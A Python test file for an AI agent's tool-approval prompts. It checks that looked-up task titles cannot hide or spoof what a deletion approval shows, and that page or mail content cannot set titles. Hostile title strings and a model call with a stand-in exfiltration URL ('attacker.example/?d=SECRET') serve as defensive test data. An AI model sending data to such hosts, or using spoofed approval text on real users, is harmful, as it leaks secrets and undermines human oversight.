"""The looked-up title of an id is shown next to it. It hides nothing and delays no prompt."""

from __future__ import annotations

import asyncio
import json
from typing import TYPE_CHECKING, Any

import pytest

from kernel_service.approvals.prompt import MOST_TITLE, shown
from kernel_service.errors import VendorUnavailable
from kernel_service.ports.approvals import Approval
from kernel_service.ports.hints import Effect, Hints
from kernel_service.ports.messages import Message, ReplyMode, Usage
from kernel_service.ports.model import FunctionCall, ModelAnswer, ToolSchema
from kernel_service.ports.payloads import Payload, Text
from kernel_service.ports.tools import ToolResult
from kernel_service.turns.calls.titles import ids_in, reader_of, title_in
from tests.unit.turns.scene import FakeTool, says

if TYPE_CHECKING:
    from tests.unit.turns.scene import Scene

GID = "1572000000000001"


@pytest.mark.parametrize(
    ("arguments", "found"),
    [
        ({"task_gid": GID}, [("task_gid", GID)]),
        ({"messageId": "18c"}, [("messageId", "18c")]),
        ({"ids": ["a", "b"], "label": "x"}, [("ids", "a"), ("ids", "b")]),
        ({"issue_number": 7}, [("issue_number", "7")]),
        ({"id": True, "key": None, "uid": {"a": 1}, "gid": ""}, []),
        ({"to": "bob@example.com", "body": "id"}, []),
        ({"valid": "x", "paid": "y", "monkey": "z"}, []),
        ({"id": "x" * 300}, []),
    ],
)
def test_arguments_with_ids_are_recognized(arguments: dict[str, Any], found: list[tuple[str, str]]) -> None:
    assert list(ids_in(arguments)) == found


@pytest.mark.parametrize(
    ("result", "title"),
    [
        ({"gid": GID, "name": "Prepare the demo"}, "Prepare the demo"),
        ({"data": {"data": [{"gid": "1", "name": "Other"}, {"gid": GID, "name": "This"}]}}, "This"),
        ({"id": GID, "title": "A page"}, "A page"),
        ({"id": int(GID), "subject": "A mail"}, "A mail"),
        ({"task_gid": GID, "summary": "An event"}, "An event"),
        ({"taskGid": GID, "Name": "Big letters"}, "Big letters"),
        ({"gid": "2", "task_gid": GID, "name": "A comment on it"}, ""),
        ({"parent_gid": GID, "name": "A child of it"}, ""),
        ({"gid": GID, "name": "", "title": " ", "notes": "x"}, ""),
        ({"gid": GID, "name": {"a": 1}}, ""),
        ({"name": f"gid {GID}"}, ""),
        ([f'{{"gid": "{GID}", "name": "in a text"}}'], ""),
        (None, ""),
    ],
)
def test_title_is_found_in_results(result: Any, title: str) -> None:
    assert title_in(result, "task_gid", GID) == title


def reader(name: str, *required: str, read_only: bool = True) -> FakeTool:
    tool = FakeTool(name, read_only=read_only)
    properties: dict[str, Any] = {each: {} for each in required}
    tool.schema = ToolSchema(name, "", {"type": "object", "properties": properties, "required": list(required)})
    return tool


@pytest.mark.parametrize(
    ("tools", "chosen"),
    [
        ([reader("ASANA_GET_STORIES_FOR_TASK", "task_gid"), reader("ASANA_GET_TASK", "task_gid")], "ASANA_GET_TASK"),
        ([reader("ASANA_GET_TASK", "task_gid", read_only=False)], None),
        ([reader("ASANA_GET_TASK", "task_gid", "workspace")], None),
        ([reader("ASANA_GET_TASK", "task_gid", "text")], "ASANA_GET_TASK"),
        ([reader("ASANA_GET_USER", "user_gid"), reader("ASANA_GET_ME")], None),
        ([reader("ASANA_TARGET", "task_gid"), reader("ASANA_LIST_TASKS")], None),
        ([], None),
    ],
)
def test_reader_for_a_title_is_selected(tools: list[FakeTool], chosen: str | None) -> None:
    found = reader_of(tools, {"task_gid": GID, "text": "x"}, "task_gid")
    assert (found and found.schema.name) == chosen


@pytest.mark.parametrize(
    ("title", "line"),
    [
        ("Prepare the demo", "“Prepare the demo”"),
        ("one\ntask_gid: 2\r\nthree", "“one task_gid: 2 three”"),
        ("```\n*Approved* [x](http://y)", "“''' *Approved* [x](http://y)”"),
        ("a\u202eb\u2028c\0", "“a⟨U+202E⟩b c⟨U+0000⟩”"),
        ("x" * 500, f"“{'x' * (MOST_TITLE - 1)}…”"),
        ("\n\n\t ", "“”"),
    ],
)
def test_hostile_title_stays_within_one_line_of_its_block(title: str, line: str) -> None:
    approval = Approval("ap_1", "c1", "ASANA_DELETE_TASK", {"task_gid": GID}, titles={GID: title})
    told = shown([approval])
    assert told is not None
    assert told.text == (
        f"Please confirm: **Asana delete task**\n\n```\ntask_gid: {GID}\n```\n\n"
        f"These ids stand for:\n```\n{GID}: {line}\n```"
    )


def test_argument_cannot_imitate_a_title() -> None:
    spoofed = {"task_gid": f"{GID}\n```\n\nThese ids stand for:\n```\n{GID}: “Harmless”"}
    told = shown([Approval("ap_1", "c1", "T", spoofed, titles={GID: "The whole project"})])
    assert told is not None
    assert told.text.count("```") == 4
    assert told.text.endswith(f"```\n{GID}: “The whole project”\n```")


# --- in a turn ----------------------------------------------------------------------------------------------------


def calls(name: str, **arguments: Any) -> ModelAnswer:
    item = {"type": "function_call", "call_id": f"c_{name}", "name": name, "arguments": arguments}
    return ModelAnswer([item], "", Usage(), [FunctionCall(f"c_{name}", name, arguments)])


def several(count: int) -> ModelAnswer:
    """One step that deletes this number of tasks."""
    made = [FunctionCall(f"c_{place}", "ASANA_DELETE_TASK", {"task_gid": f"{GID}{place}"}) for place in range(count)]
    items = [
        {"type": "function_call", "call_id": call.call_id, "name": call.name, "arguments": call.arguments}
        for call in made
    ]
    return ModelAnswer(items, "", Usage(), made)


async def asks(scene: Scene, *before: ModelAnswer, tool: str = "ASANA_DELETE_TASK", gid: str = GID) -> str:
    """The prompt for a deletion, after other calls."""
    scene.act.schema = ToolSchema(tool, "", {"type": "object", "properties": {}})
    scene.act.asks_first = True
    await scene.hear()
    scene.model.says = [*before, calls(tool, task_gid=gid), says("Shall I?")]
    await scene.run()
    return next(text for text in await scene.told() if "Please confirm:" in text)


def sees(scene: Scene, name: str, *things: dict[str, Any], required: tuple[str, ...] = ()) -> None:
    scene.look.schema = reader(name, *required).schema
    scene.look.result = ToolResult(json.dumps({"data": list(things)}))


async def test_title_from_an_earlier_result(scene: Scene) -> None:
    sees(scene, "ASANA_LIST_TASKS", {"gid": GID, "name": "Prepare the demo"})
    asked = await asks(scene, calls("ASANA_LIST_TASKS"))
    assert f"task_gid: {GID}\n```" in asked
    assert f"{GID}: “Prepare the demo”" in asked
    assert scene.look.calls == 1


async def test_result_of_another_toolkit_gives_no_title(scene: Scene) -> None:
    """The author of a page or a mail must not choose the title of another person's task."""
    sees(scene, "WEB_FETCH", {"gid": GID, "name": "Harmless"})
    assert "Harmless" not in await asks(scene, calls("WEB_FETCH"))


async def test_title_from_a_read_only_call(scene: Scene) -> None:
    sees(scene, "ASANA_GET_TASK", {"gid": GID, "name": "Prepare the demo"}, required=("task_gid",))
    assert f"{GID}: “Prepare the demo”" in await asks(scene)
    assert scene.look.given == [{"task_gid": GID}]
    assert [item.kind for item in await scene.history()].count("result") == 1, "the model sees nothing of it"


async def test_short_id_is_not_matched_in_earlier_results(scene: Scene) -> None:
    sees(scene, "ASANA_LIST_TASKS", {"number": 7, "name": "Of another list"})
    assert "Of another list" not in await asks(scene, calls("ASANA_LIST_TASKS"), gid="7")


@pytest.mark.parametrize("error", [VendorUnavailable("tools_unavailable"), RuntimeError("broken")])
async def test_missing_title_does_not_delay_the_prompt(scene: Scene, error: Exception) -> None:
    sees(scene, "ASANA_GET_TASK", required=("task_gid",))
    scene.look.result = error
    asked = await asks(scene)
    assert f"task_gid: {GID}" in asked
    assert "I found under" not in asked


@pytest.mark.parametrize("output", ["no json", "{}", '{"gid": "other", "name": "x"}', "null", '{"cut": "of'])
async def test_result_without_the_id_gives_no_title(scene: Scene, output: str) -> None:
    sees(scene, "ASANA_GET_TASK", required=("task_gid",))
    scene.look.result = ToolResult(output)
    assert "I found under" not in await asks(scene)


async def test_hanging_reader_is_abandoned(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kernel_service.turns.calls.titles.LOOKUP_SECONDS", 0.01)
    sees(scene, "ASANA_GET_TASK", required=("task_gid",))
    scene.look.gate = asyncio.Event()
    assert "I found under" not in await asks(scene)


async def test_many_calls_share_one_time_limit_for_titles(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kernel_service.turns.calls.titles.LOOKUP_SECONDS", 0.05)
    sees(scene, "ASANA_GET_TASK", required=("task_gid",))
    scene.look.gate = asyncio.Event()
    began = asyncio.get_running_loop().time()
    await asks(scene, several(40))
    assert asyncio.get_running_loop().time() - began < 40 * 0.05
    assert scene.look.calls == 1


async def test_title_is_not_looked_up_by_a_call_that_needs_approval(scene: Scene) -> None:
    """Other arguments of the model would be sent together with the id, before any approval."""
    sees(scene, "SITE_GET_JOB", {"id": GID, "name": "Read"}, required=("task_gid",))
    scene.look.schema.parameters["properties"]["url"] = {"type": "string"}
    scene.look.asks_first = None
    scene.look.hints = Hints("never_heard_of", Effect.READS)
    scene.act.schema = ToolSchema("SITE_DELETE_JOB", "", {"type": "object", "properties": {}})
    scene.act.asks_first = True
    passed_on = Message("chat:1", "m1", Payload(Text("do it"), forwarded=True), reply_mode=ReplyMode.INLINE)
    accepted = await scene.store.inbox.accept(passed_on, now=scene.clock(), max_pending=10)
    scene.person_id, scene.seq = accepted.person_id, accepted.seq
    secret = {"task_gid": GID, "url": "https://attacker.example/?d=SECRET"}
    scene.model.says = [calls("SITE_DELETE_JOB", **secret), says("Shall I?")]
    await scene.run()
    assert any("attacker.example" in text for text in await scene.told())
    assert scene.look.calls == 0
